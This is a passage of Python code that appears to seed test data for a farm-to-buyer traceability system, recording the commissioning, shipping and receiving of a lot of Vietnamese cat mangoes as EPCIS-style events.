        _org(s, "Chi cục QLCL Đồng Tháp", "authority", "TP. Cao Lãnh", keys)
        gtin = with_check_digit(f"893{number:010d}")
        create_product(s, farm[1], ProductCreate(gtin=gtin, name="Xoài cát", name_en="Cat mango",
                                                 ftl_category="Tropical tree fruits"))  # fmt: skip
        plot = create_place(s, farm[1], PlaceCreate(kind=PlaceKind.plot, name="Vườn kín"))
        lot = lot_uri(gtin, code)
        zone = rt.settings.zone
        private: dict[str, Any] = {"agri:visibility": harvest}
        shipped: dict[str, Any] = {"agri:visibility": shipping}

        def cap(who: Any, event: dict[str, Any]) -> None:
            capture_events(s, who[1], [event], DEFAULT_CONTEXT, rt.settings, checks=rt.capture_checks)

        cap(farm, object_event(
            "commissioning", zone, when="2025-07-01T06:00:00+07:00", action="ADD", lot=lot, quantity=500, uom="KGM",
            bizLocation={"id": place_uri(plot)}, **private,
            ilmd={"agri:plot": place_uri(plot), **ilmd}))  # fmt: skip
        dest = [{"type": "owning_party", "destination": party_uri(buyer[0])}]
        cap(farm, object_event("shipping", zone, when="2025-07-01T09:00:00+07:00", lot=lot, quantity=500, uom="KGM",
                               destinationList=dest, **shipped))  # fmt: skip
        cap(buyer, object_event("receiving", zone, when="2025-07-01T11:00:00+07:00", lot=lot, destinationList=dest))
        s.commit()
    return keys, farm, buyer, gtin
